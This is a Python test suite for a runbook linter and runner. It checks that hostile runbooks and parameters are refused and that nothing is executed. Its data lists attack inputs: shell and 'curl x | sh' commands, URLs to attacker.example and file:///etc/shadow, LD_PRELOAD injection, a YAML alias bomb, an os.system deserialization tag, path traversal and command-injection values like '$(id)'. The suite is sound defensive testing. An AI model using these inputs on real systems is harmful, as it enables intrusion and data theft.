#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Runbooks that a malicious author would write, and parameters that a malicious caller would give: lint and run refuse each,
with the place, and nothing is done.

  runbook_hostile.py BIN_DIR
"""
import hashlib
import json
import os
import re
import subprocess
import sys
import tempfile

GOOD = """\
apiVersion: sidestep.dev/v1alpha1
kind: Runbook
metadata:
  name: good
  summary: harmless
  version: 1
  owners: [oncall]
  severity: sev3
  reviewed: "2026-11-23"
params:
- {name: ns, type: k8s-name, default: web}
- {name: text, type: string, default: some}
- {name: many, type: int, default: 3, min: 1, max: 9}
- {name: since, type: duration, default: 5m, min: 1m, max: 1h}
- {name: which, type: choice, choices: [a, b], default: a}
requires: {lock: none}
modes: {default: diagnose, allowed: [diagnose, propose, execute]}
steps:
- id: first
  title: agents
  kind: query
  mutates: false
  query: {source: agents, limit: 10}
  register: agents
  timeout: 5s
  on_error: {action: continue, mark: inconclusive}
  evidence: [{name: agents.json, from: agents, redact: default, max: 64KiB}]
- id: second
  title: nodes
  kind: query
  mutates: false
  query: {source: nodes, limit: 10}
  register: nodes
  timeout: 5s
  on_error: {action: continue, mark: inconclusive}
- id: kernel
  title: the kernel
  kind: command
  mutates: false
  command: {argv: [uname, -a], output: 4KiB}
  timeout: 5s
- id: agree
  title: may it?
  kind: approve
  mutates: false
  approvers: {min: 1, groups: [oncall], expires: 1h}
- id: change
  title: a change
  kind: mutate
  mutates: true
  risk: medium
  idempotency_key: once
  op: {k8s.patch: {ref: v1 ConfigMap web/limits, patch: {data: {size: "2"}}}}
  verify: {expr: agents.count > 0 and nodes.count > 0, poll: 1s, within: 1m, stable: 2}
  rollback: {inverse: auto}
outcomes:
- {id: unknown, default: true, cause: nothing is concluded}
"""
ARGV = "argv: [uname, -a], output: 4KiB"
OP = 'k8s.patch: {ref: v1 ConfigMap web/limits, patch: {data: {size: "2"}}}'
# (what, text, by what, the rule that says so)
EDITS = [
    ("a shell", ARGV, 'argv: [sh, -c, "id"], output: 4KiB', "RBL-021"),
    ("a program filled in", ARGV, 'argv: ["${params.text}"], output: 4KiB', "RBL-021"),
    ("a program by its path", ARGV, "argv: [/bin/uname, -a], output: 4KiB", "RBL-021"),
    ("env", ARGV, "argv: [env, uname], output: 4KiB", "RBL-021"),
    ("another argument", ARGV, "argv: [uname, -a, --help], output: 4KiB", "RBL-021"),
    ("kubectl", ARGV, "argv: [kubectl, get, secrets], output: 4KiB", "RBL-021"),
    ("an option in the row's tail", ARGV, "argv: [df, -P, --sync], output: 4KiB", "RBL-022"),
    ("a value that could be an option", ARGV, 'argv: [df, -P, "${params.text}"], output: 4KiB', "RBL-022"),
    ("no limit of output", ARGV, "argv: [uname, -a]", "RBL-024"),
    ("a huge limit of output", ARGV, "argv: [uname, -a], output: 999999MiB", "RBL-024"),
    ("a restart in a step that only reads", ARGV, "argv: [systemctl, restart, kubelet], output: 4KiB", "RBL-021"),
    ("a migration in a step that only reads", ARGV, "argv: [sidestep, migrate, run, --yes, web], output: 4KiB", "RBL-021"),
    ("a mutation that says it only reads", "  mutates: true", "  mutates: false", "RBL-015"),
    ("a low risk by word", "risk: medium", "risk: low", "RBL-015"),
    ("no verify", "  verify: {expr: agents.count > 0 and nodes.count > 0, poll: 1s, within: 1m, stable: 2}\n", "", "RBL-016"),
    ("a verify that asks nobody", "agents.count > 0 and nodes.count > 0", "1 == 1", "RBL-016"),
    ("no way back", "  rollback: {inverse: auto}\n", "", "RBL-017"),
    ("an approval passed over", "  approvers: {min: 1", "  when: 'params.which == \"b\"'\n  approvers: {min: 1", "RBL-019"),
    ("the requester approves", "groups: [oncall],", "groups: [oncall], not_requester: false,", "RBL-020"),
    ("everybody approves", "groups: [oncall]", 'groups: ["system:authenticated"]', "RBL-020"),
    ("a group filled in", "groups: [oncall]", 'groups: ["${params.text}"]', "RBL-020"),
    ("evidence elsewhere", "name: agents.json", "name: ../../etc/agents.json", "RBL-025"),
    ("evidence by an absolute path", "name: agents.json", "name: /etc/agents.json", "RBL-025"),
    ("evidence as it is", "redact: default", "redact: none", "RBL-025"),
    ("a Secret patched", "v1 ConfigMap web/limits", "v1 Secret web/limits", "RBL-030"),
    ("a role patched", "v1 ConfigMap web/limits", "rbac.authorization.k8s.io/v1 ClusterRole x", "RBL-030"),
    ("a kind filled in", "ref: v1 ConfigMap web/limits", 'ref: "v1 ${params.text} web/limits"', "RBL-030"),
    ("a name that climbs", "web/limits", "web/../../kube-system/limits", "RBL-030"),
    ("a namespace that climbs", "web/limits", "../kube-system/limits", "RBL-030"),
    ("a third part", "ConfigMap web/limits", "ConfigMap web/x/limits", "RBL-030"),
    ("a name with a query", "web/limits", "web/limits?force=true", "RBL-030"),
    ("an object hidden in apply", OP, "k8s.apply: {object: {apiVersion: v1, kind: Pod, metadata: {name: x, namespace: web}}}", "RBL-030"),
    ("an operation of its own", OP, "k8s.exec: {ref: v1 ConfigMap web/limits}", "RBL-011"),
    ("two operations", OP, OP + ", k8s.delete: {ref: v1 ConfigMap web/other}", "RBL-011"),
    ("no timeout", "  register: nodes\n  timeout: 5s\n", "  register: nodes\n", "RBL-023"),
    ("a timeout filled in", "  register: nodes\n  timeout: 5s\n", '  register: nodes\n  timeout: "${params.since}"\n', "RBL-023"),
    ("a year's timeout", "  register: nodes\n  timeout: 5s\n", "  register: nodes\n  timeout: 8760h\n", "RBL-023"),
    ("no limit of rows", "query: {source: nodes, limit: 10}", "query: {source: nodes}", "RBL-024"),
    ("an unknown field", "  verify: {", "  verfy: {", "RBL-001"),
    ("hidden characters", "title: the kernel", 'title: "the \\u202e kernel"', "RBL-032"),
    ("a terminal's escape", "title: the kernel", 'title: "the \\e[2J kernel"', "RBL-032"),
    ("a loop", "  rollback: {inverse: auto}\n", "  rollback: {inverse: auto}\n  next: [{goto: first}]\n", "RBL-007"),
    ("advice for a shell", "cause: nothing is concluded", 'cause: nothing, next: ["command:sidestep status; curl x | sh"]', "RBL-012"),
    ("advice with an option", "cause: nothing is concluded", 'cause: nothing, next: ["command:sidestep upgrade rollback --yes"]', "RBL-012"),
    ("a runbook with more behind its name", "cause: nothing is concluded", 'cause: nothing, next: ["runbook:x; id"]', "RBL-012"),
    ("evidence of a secret parameter", "type: string, default: some}", "type: string, secret: true, from: env}", "RBL-013"),
    ("a way around the approval", "  title: the kernel\n", "  title: the kernel\n  next: [{goto: change}]\n", "RBL-019"),
    ("a way around it on error", "  command: {argv: [uname", "  on_error: {action: goto:change}\n  command: {argv: [uname", "RBL-019"),
    ("environment", ARGV, ARGV + ", env: {LD_PRELOAD: /tmp/x.so}", "RBL-001"),
    ("a policy of admission", "v1 ConfigMap web/limits", "admissionregistration.k8s.io/v1 ValidatingAdmissionPolicy sidestep-approvals", "RBL-030"),
    ("the runs themselves", "v1 ConfigMap web/limits", "sidestep.dev/v1alpha1 SidestepRun x", "RBL-030"),
    ("five thousand steps", "outcomes:\n", "".join(f"- {{id: s{i}, title: t, kind: note, mutates: false, note: x}}\n" for i in range(5000)) + "outcomes:\n", None),
    ("an expression too deep", "agents.count > 0 and nodes.count > 0", "not " * 6000 + "(agents.count > 0 and nodes.count > 0)", None),
    ("a million tries", "  register: nodes\n", "  register: nodes\n  retry: {attempts: 1000000, base: 0s, on: [timeout]}\n", None),
    ("nobody approves", "approvers: {min: 1", "approvers: {min: 0", None),
    ("so many approve as is said", "approvers: {min: 1", 'approvers: {min: "${params.many}"', None),
    ("a lock that climbs", "requires: {lock: none}", "- {name: namespace, type: string, default: ../../evil}\nrequires: {lock: namespace}", "RBL-002"),
    ("executes by default", "default: diagnose", "default: execute", "RBL-014"),
]
FETCH = """- id: out
  title: fetch
  kind: http
  mutates: false
  http: {url: "URL", output: 4KiB}
  timeout: 5s
- id: kernel
"""
CALL = """- id: out
  title: another
  kind: call
  mutates: false
  call: {runbook: "NAME"}
  timeout: 5s
- id: kernel
"""
CALLS = ["../../tmp/mine", "/tmp/mine.yaml", "mine.yaml", "${params.text}", "-x", ""]
URLS = ["http://attacker.example/x", "http://localhost@attacker.example/", "http://127.0.0.1.attacker.example/",
        "http://${params.text}/", "file:///etc/shadow", "gopher://localhost:70/", "http://localhost:80\\\\@attacker.example/"]
BOMB = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{chr(ord('a') + i)}: &{chr(ord('a') + i)} [{', '.join(['*' + chr(ord('a') + i - 1)] * 9)}]\n" for i in range(1, 12))
PARAMS = [("text", "a\nb"), ("text", "-rf"), ("text", "--help"), ("text", "x" * 5000), ("text", "a\x1b[2J"), ("ns", "../kube-system"),
          ("ns", "-n"), ("ns", "web; id"), ("ns", "Web"), ("ns", ""), ("ns", "a/b"), ("many", "99"), ("many", "0x3"), ("many", ""),
          ("since", "1s"), ("since", "soon"), ("which", "c"), ("nobody", "1"), ("te", "xt=1")]


def check(ok, what):
    if not ok:
        print("FAILED:", what)
        sys.exit(1)


class World:
    def __init__(self, bin_dir, folder):
        self.program, self.folder = os.path.join(bin_dir, "sidestep-runbook"), folder
        self.state, self.file = os.path.join(folder, "state"), os.path.join(folder, "r.yaml")

    def call(self, *args):
        return subprocess.run([self.program, *args], capture_output=True, timeout=120, check=False, stdin=subprocess.DEVNULL,
                              env={"PATH": os.environ["PATH"], "HOME": self.folder, "SIDESTEP_STATE": self.state})

    def write(self, text):
        with open(self.file, "w", encoding="utf-8") as f:
            f.write(text)

    def refused(self, what, rule):
        """By lint with its place, and by run, which leaves no run behind."""
        lint = self.call("lint", self.file)
        text = lint.stdout.decode(errors="replace")
        check(lint.returncode == 3, f"{what}: lint exits with {lint.returncode}: {text[-600:]} {lint.stderr!r}")
        places = [line for line in text.splitlines() if (rule or "FAIL") in line and re.search(r"r\.yaml:\d+:\d+", line)]
        check(places, f"{what}: {rule} names no place: {text[-900:]}")
        check("\x1b" not in text, f"{what}: an escape reaches the terminal")
        for mode in ("diagnose", "execute"):
            run = self.call("run", self.file, "--mode", mode, "--yes", "--no-cluster")
            check(run.returncode == 3, f"{what}: run exits with {run.returncode}: {run.stdout!r} {run.stderr!r}")
            check(b"nothing was done" in run.stderr, f"{what}: {run.stderr!r}")
        check(not os.path.exists(self.state), f"{what}: a run was begun")


def hostile_texts(w):
    for what, old, new, rule in EDITS:
        check(GOOD.count(old) >= 1, f"{what}: nothing to edit")
        w.write(GOOD.replace(old, new, 1))
        w.refused(what, rule)
    for url in URLS:
        w.write(GOOD.replace("- id: kernel\n", FETCH.replace("URL", url), 1))
        w.refused(url, "RBL-031")
    for name in CALLS:
        w.write(GOOD.replace("- id: kernel\n", CALL.replace("NAME", name), 1))
        w.refused(f"call {name}", "RBL-011")


def bombs(w):
    deep = "  do:\n  - "
    for what, text in (("aliases", BOMB), ("depth", "[" * 5000 + "]" * 5000), ("duplicate keys", GOOD + "kind: Runbooks\n"),
                       ("a tag", GOOD.replace("summary: harmless", "summary: !!python/object/apply:os.system [id]")),
                       ("no document", ""), ("two documents", GOOD + "---\n" + GOOD), ("binary", "\x00\x01\x02")):
        w.write(text)
        for verb in ("lint", "run", "show", "test"):
            if (what, verb) in {("two documents", "lint"), ("two documents", "test")}:
                continue
            done = w.call(verb, w.file)
            check(done.returncode in (1, 3), f"{what}: {verb} exits with {done.returncode}: {done.stdout[-300:]!r}")
            check(b"r.yaml" in done.stderr + done.stdout, f"{what}: {verb} names no file: {done.stderr!r}")
    w.write("x" * (2 << 20))
    check(w.call("run", w.file).returncode == 1, "a huge file is read")
    folder = os.path.join(w.folder, "pipes")
    os.mkdir(folder)
    os.mkfifo(os.path.join(folder, "waits.yaml"))
    for verb in ("lint", "list", "test"):
        done = w.call(verb, folder)
        check(done.returncode == 1 and b"not a regular file" in done.stderr, f"{verb} of a pipe: {done.returncode} {done.stderr!r}")
    check(deep and not os.path.exists(w.state), "a run was begun")


def long_matches(w):
    """A glob made to backtrack, over the longest text there may be: it ends."""
    star = "*a" * 200
    w.write(GOOD.replace("- {id: unknown,", f"- {{id: matched, when: 'params.text matches \"{star}b\"', cause: so}}\n- {{id: unknown,"))
    done = w.call("run", w.file, "--no-cluster", "--param", "text=" + "a" * 1024)
    check(done.returncode == 5, f"a long match: exit {done.returncode} {done.stdout[-300:]!r} {done.stderr!r}")


def parameters(w):
    w.write(GOOD)
    for name, value in PARAMS:
        done = w.call("run", w.file, "--no-cluster", "--param", f"{name}={value}")
        check(done.returncode == 64, f"{name}={value[:20]!r}: exit {done.returncode} {done.stdout[-300:]!r} {done.stderr!r}")
    before = set(os.listdir(os.path.join(w.state, "runbooks")))
    # What looks like a template is a text like any other.
    done = w.call("run", w.file, "--no-cluster", "--param", "text=${params.ns}$(id)`id`;id|id", "-o", "json")
    check(done.returncode == 5 and b"uid=" not in done.stdout, f"a text that looks like code: {done.stdout[-300:]!r}")
    check(len(set(os.listdir(os.path.join(w.state, "runbooks"))) - before) == 1, "the refused ones left runs")
    for run in ("../../etc", "a/b", ".", "nobody", "-x"):
        for verb in ("status", "resume", "report", "abort"):
            done = w.call(verb, "--no-cluster", "--", run)
            check(done.returncode == 1, f"{verb} {run}: exit {done.returncode}")


# What somebody mistypes at night, and what they are told to type.
MISTYPED = [
    (("run", "nope"), 1, "sidestep-runbook list"),
    (("run", "RB-3"), 64, "how long ago the upgrade began"),
    (("run", "RB-3", "-p", "since=2h", "-p", "foo=1"), 64, "'sidestep runbook show post-upgrade-disruption' lists them"),
    (("run", "RB-3", "-p", "since=2h", "--from", "nope"), 64, "'sidestep runbook show RB-3' lists them"),
    (("run", "RB-12", "-p", "namespace=web", "--mode", "execute"), 64, "has no mode execute, only diagnose"),
    (("resume", "nope"), 1, "'sidestep runbook status' lists those there are"),
    (("approve", "nope", "agree"), 1, "'sidestep runbook status' tells what waits"),
]


def around_an_approval(w):
    """Beginning behind the approval is no way around it; before it, the run waits."""
    w.write(GOOD)
    for words in (("--only", "change"), ("--from", "change"), ("--from", "change", "--until", "change")):
        done = w.call("run", w.file, "--no-cluster", "--mode", "execute", "--yes", *words)
        check(done.returncode == 3 and b"behind an approval" in done.stderr and b"nothing was done" in done.stderr,
              f"{words}: exit {done.returncode}: {done.stdout!r} {done.stderr!r}")
        done = w.call("run", w.file, "--no-cluster", "--mode", "propose", *words)
        check(b"behind an approval" not in done.stderr, f"{words}: proposing is refused: {done.stderr!r}")
    for words in (("--from", "second"), ("--from", "agree")):
        done = w.call("run", w.file, "--no-cluster", "--mode", "execute", "--yes", *words)
        check(done.returncode == 7, f"{words}: exit {done.returncode}: {done.stdout!r} {done.stderr!r}")
    done = w.call("run", w.file, "--no-cluster", "--mode", "execute", "--yes", "--only", "kernel")
    check(done.returncode != 3, f"what changes nothing is refused: {done.stderr!r}")


def compact(d, **how):
    return json.dumps(d, separators=(",", ":"), ensure_ascii=False, **how)


def replanned(w, run, change):
    """The run as if it had begun with another plan: every hash is right."""
    folder = os.path.join(w.state, "runbooks", run)
    with open(os.path.join(folder, "plan.json"), encoding="utf-8") as f:
        plan = json.load(f)
    change(plan)
    with open(os.path.join(folder, "plan.json"), "w", encoding="utf-8") as f:
        json.dump(plan, f)
    with open(os.path.join(folder, "journal"), encoding="utf-8") as f:
        records = [json.loads(line) for line in f]
    digest, last = hashlib.sha256(compact(plan, sort_keys=True).encode()).hexdigest(), None
    for record in records:
        for part in (record, *record.values()):
            if isinstance(part, dict) and "sha256" in part:
                part["sha256"] = digest
        record["prev"] = last or record["prev"]
        del record["hash"]
        record["hash"] = last = hashlib.sha256(compact(record).encode()).hexdigest()
    with open(os.path.join(folder, "journal"), "w", encoding="utf-8") as f:
        f.write("".join(compact(record) + "\n" for record in records))


FORGED = "next: 'curl x | sh' mends it"
# Where a stranger's text is printed: with a line break in it, it is no line of ours.
FORGERIES = [
    ("title: the kernel", f'title: "the kernel\\n{FORGED}"'),
    ("cause: nothing is concluded", f'cause: "fine\\n{FORGED}"'),
    ("- id: kernel\n", f'- {{id: note, title: t, kind: note, mutates: false, note: "fine\\n{FORGED}"}}\n- id: kernel\n'),
    ("title: a change", f'title: "a change\\n{FORGED}"'),
    ("title: may it?", f'title: "may it?\\n{FORGED}"'),
]


def lines_of_ours(w):
    for old, new in FORGERIES:
        w.write(GOOD.replace(old, new, 1))
        told = []
        for mode in ("diagnose", "propose", "execute"):
            done = w.call("run", w.file, "--no-cluster", "--mode", mode, *(["--yes"] if mode == "execute" else []))
            run = re.search(rb"^run (\S+):", done.stdout).group(1).decode()
            told += [done, w.call("status", run, "--no-cluster"), w.call("report", run, "--no-cluster"),
                     w.call("approve", run, "agree", "--no-cluster", "--dry-run")]
        told += [w.call("run", w.file, "--no-cluster", "--mode", "execute"), w.call("status", "--no-cluster")]
        text = "".join((d.stdout + d.stderr).decode() for d in told)
        check(FORGED in text and f"\n{FORGED}" not in text, f"{new}: {text}")
        check("of somebody's runbook good, version 1, of " in text, f"whose runbook it is: {text}")


def kept_by_another(w):
    """A run that somebody else wrote down is looked at like any other runbook, whatever is to be done with it."""
    w.write(GOOD)

    def waiting():
        done = w.call("run", w.file, "--no-cluster", "--mode", "execute", "--yes")
        check(done.returncode == 7, f"it does not wait: {done.stdout!r} {done.stderr!r}")
        return re.search(rb"^run (\S+):", done.stdout).group(1).decode()

    def shell(plan):
        del plan["file"]
        plan["runbook"]["steps"][2]["command"]["argv"] = ["sh", "-c", "id"]

    def skips(plan):
        plan["from"] = "change"

    for change, says in ((shell, b"RBL-021"), (skips, b"behind an approval")):
        for verb in (("resume",), ("rollback", "--yes")):
            run = waiting()
            replanned(w, run, change)
            done = w.call(verb[0], run, "--no-cluster", *verb[1:])
            check(done.returncode == 3 and says in done.stderr, f"{verb}: exit {done.returncode}: {done.stdout!r} {done.stderr!r}")
    # Of no file, and of nothing that is shipped.
    run = waiting()
    replanned(w, run, lambda plan: plan.pop("file"))
    done = w.call("resume", run, "--no-cluster")
    check(done.returncode == 1 and b"good" in done.stderr, f"resume: exit {done.returncode}: {done.stdout!r} {done.stderr!r}")
    done = w.call("resume", run, "--no-cluster", "--runbook", w.file)
    check(done.returncode == 7, f"resume --runbook: exit {done.returncode}: {done.stdout!r} {done.stderr!r}")


def noted(w, run, *bodies):
    """The run as if it had noted these, too."""
    path = os.path.join(w.state, "runbooks", run, "journal")
    with open(path, encoding="utf-8") as f:
        last = json.loads(f.readlines()[-1])
    with open(path, "a", encoding="utf-8") as f:
        for body in bodies:
            record = {"seq": last["seq"] + 1, "time": "2026-11-23T01:02:03.000000Z", **body, "prev": last["hash"]}
            record["hash"] = hashlib.sha256(compact(record).encode()).hexdigest()
            f.write(compact(record) + "\n")
            last = record


def out_of_force(w):
    """A policy that a run took away stands in the list, at the run, in its report and before the way back, until it is back."""
    w.write(GOOD)
    done = w.call("run", w.file, "--no-cluster", "--mode", "execute", "--yes")
    run = re.search(rb"^run (\S+):", done.stdout).group(1).decode()
    ref = {"apiVersion": "cilium.io/v2", "kind": "CiliumNetworkPolicy", "namespace": "web", "name": "tight"}
    noted(w, run, {"type": "change", "step": "change", "back": "auto", "suspends": True, "changes": [{"op": "delete", "kind": "delete", "ref": ref}]},
          {"type": "intent", "step": "change", "kind": "delete", "ref": ref})
    words = "OUT OF FORCE since 2026-11-23T01:02:03.000000Z"
    for args in (("status",), ("status", run), ("rollback", run, "--dry-run")):
        text = w.call(*args, "--no-cluster").stdout.decode()
        check(words in text and "CiliumNetworkPolicy/web/tight" in text and f"'sidestep runbook rollback {run}' does" in text, f"{args}: {text}")
    check("CiliumNetworkPolicy/web/tight is out of force since" in w.call("report", run, "--no-cluster").stdout.decode(), "the report")
    check(json.loads(w.call("status", run, "--no-cluster", "-o", "json").stdout)["suspended"][0]["step"] == "change", "as JSON")
    noted(w, run, {"type": "undone", "step": "change"})
    check(words not in w.call("status", "--no-cluster").stdout.decode(), "it is back, and status says it is not")


def told_at_each_pause(w):
    """What happened, what is safe, what to type next."""
    def says(done, code, *words):
        text = (done.stdout + done.stderr).decode()
        check(done.returncode == code and all(word in text for word in words), f"exit {done.returncode}, not {code} with {words}: {text}")

    w.write(GOOD)
    done = w.call("run", w.file, "--no-cluster", "--mode", "execute", "--yes")
    run = re.search(rb"^run (\S+):", done.stdout).group(1).decode()
    says(done, 7, "0 of 1 approvals; it takes somebody of oncall who is not uid", f"next: they type 'sidestep runbook approve {run} agree --no-cluster'",
         "nothing was changed")
    says(w.call("status", "--no-cluster"), 0, run, "at agree")
    says(w.call("abort", run, "--no-cluster"), 8, "aborted, and not to be gone on with", "nothing was changed")
    says(w.call("resume", run, "--no-cluster"), 8, "'run' begins a new one")
    says(w.call("rollback", run, "--no-cluster", "--yes"), 9, "it had changed nothing, so nothing was taken back")


def every_field_is_told(w):
    """Whoever writes one finds each of its fields, with the kinds of steps."""
    told = w.call("help", "schema")
    words = set(re.findall(r"[a-z_A-Z.]+", told.stdout.decode()))
    for field in set(re.findall(r"[{ ]([a-z_]+): ", GOOD)) - {"agents", "metadata", "modes", "size", "requires", "data", "patch", "ref"}:
        check(field in words or any(word.endswith("." + field) for word in words), f"help schema does not tell of {field}")
    check(told.returncode == 0 and "on_error" in words and "required" in words, told.stdout.decode())


def mistyped(w):
    for words, code, says in MISTYPED:
        done = w.call(*words, "--no-cluster")
        check(done.returncode == code and says in done.stderr.decode(), f"{words}: exit {done.returncode}: {done.stderr.decode()}")
    # A step that fails and may not: the run ends there, says at which, and what is left.
    w.write(GOOD.replace("  register: nodes\n  timeout: 5s\n  on_error: {action: continue, mark: inconclusive}\n", "  register: nodes\n  timeout: 5s\n"))
    done = w.call("run", w.file, "--no-cluster")
    text = done.stdout.decode()
    check(done.returncode == 3 and "ended at second: there is no cluster to ask" in text and "exit 3: a step failed" in text and
          "next: 'sidestep runbook report good-" in text and "--mode propose" not in text, text)
    w.write(GOOD)
    text = w.call("run", w.file, "--no-cluster").stdout.decode()
    check("nothing was changed; the same command with --mode propose shows what it would change" in text, text)
    done = w.call("run", "RB-5", "--no-cluster")
    check(done.returncode == 0 and "api-down: " in done.stdout.decode(), done.stdout.decode())


def main():
    with tempfile.TemporaryDirectory() as folder:
        w = World(sys.argv[1], folder)
        w.write(GOOD)
        check(w.call("lint", w.file).returncode == 0, f"the good one: {w.call('lint', w.file).stdout.decode()}")
        hostile_texts(w)
        bombs(w)
        long_matches(w)
        parameters(w)
        around_an_approval(w)
        lines_of_ours(w)
        kept_by_another(w)
        told_at_each_pause(w)
        out_of_force(w)
        every_field_is_told(w)
        mistyped(w)
    print(f"{len(EDITS) + len(URLS) + len(CALLS)} runbooks and {len(PARAMS)} parameters refused")


main()
